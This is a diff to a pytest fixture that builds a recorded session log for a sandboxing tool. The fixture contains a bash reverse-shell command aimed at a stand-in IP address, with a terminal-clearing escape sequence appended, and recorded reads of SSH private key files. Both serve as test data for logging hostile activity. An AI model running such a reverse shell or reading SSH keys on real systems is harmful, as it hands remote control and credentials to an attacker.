@@ -8,14 +8,15 @@ import pytest
 from tests.cli.invoke import invoke
 from tests.native.log import Log
 from tests.native.running import Capsule
-from tests.sessions.recorded import denied, exec_
+from tests.sessions.recorded import denied, exec_, write
 
 
 @pytest.fixture
 def log(capsule_binary: Path, workspace: Path) -> Log:
     made = Log(capsule_binary, workspace / "capsule.log")
     shell = exec_("r-1", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1\x1b[2J", program="/bin/bash")
-    made.record([shell, exec_("r-2"), *(denied(f"/home/u/.ssh/id_{n}", run="r-2") for n in range(5))])
+    keys = (write(f"/home/u/.ssh/id_{n}", "read", "r-2") for n in range(5))
+    made.record([shell, exec_("r-2"), *keys, denied("/home/u/.ssh/id_refused", run="r-2")])
     return made
 
 
